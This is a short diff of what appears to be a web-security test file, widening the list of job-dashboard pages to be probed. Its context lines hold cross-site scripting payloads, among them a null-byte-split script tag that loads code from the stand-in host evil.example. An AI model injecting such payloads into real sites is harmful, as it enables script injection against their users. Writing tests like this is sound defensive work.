@@ -49,7 +49,16 @@ PAYLOADS = (
     "<<SCRIPT>alert(1);//<</SCRIPT>",
     "<scr\u0000ipt/src=//evil.example>",
 )
-PAGES = ("/jobs", "/jobs/{job}", "/executors", "/events", "/account")
+PAGES = (
+    "/jobs",
+    "/jobs/{job}",
+    "/jobs/{job}/log",
+    "/jobs/{job}/again",
+    "/compare?jobs={job}",
+    "/executors",
+    "/events",
+    "/account",
+)
 
 
 class HostileSite:
